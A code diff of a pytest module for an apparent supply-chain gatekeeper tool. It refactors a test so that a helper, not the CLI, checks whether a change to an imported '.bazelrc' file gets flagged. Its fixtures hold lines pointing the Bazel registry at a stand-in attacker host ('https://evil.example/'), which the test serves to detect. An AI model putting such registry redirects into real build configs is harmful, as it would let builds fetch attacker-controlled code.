@@ -11,17 +11,14 @@ commands `always` and `vendor`, the files a `.bazelrc` imports by another name (
 
 from __future__ import annotations
 
-import contextlib
-import io
-import json
 from pathlib import Path
 
 import pytest
 from gitrepo import two_commits
+from incli import tree_gate
 
 from gatekeeper.classify.platformshapes import platform_shape
 from gatekeeper.classify.sniff import is_candidate
-from gatekeeper.cli import main
 
 MOVES = ["common --registry https://evil.example/", "always --registry=https://evil.example/",
          "vendor --registry=https://evil.example/", "build:ci --jobs 4 --registry https://evil.example/",
@@ -52,10 +49,7 @@ def test_the_gate_reviews_an_imported_rc_files_registry(tmp_path: Path) -> None:
             "MODULE.bazel": "module(name = 'x')\n"}
     repo, old, new = two_commits(tmp_path / "repo", base,
                                  {".bazelrc.ci": "build --jobs=4\ncommon --registry https://evil.example/\n"})
-    out = io.StringIO()
-    with contextlib.redirect_stdout(out):
-        code = main(["gate", "--tree", f"{old}..{new}", "--repo", str(repo.root), "--format", "json",
-                     "--enable", "deps"])
-    reasons = json.loads(out.getvalue())["reasons"]
+    code, decision = tree_gate(repo.root, old, new, None, "--enable", "deps")
+    reasons = decision["reasons"]
     assert code == 3, reasons
     assert [(r["rule"], r["paths"]) for r in reasons] == [("deps.unexplained", [".bazelrc.ci"])]
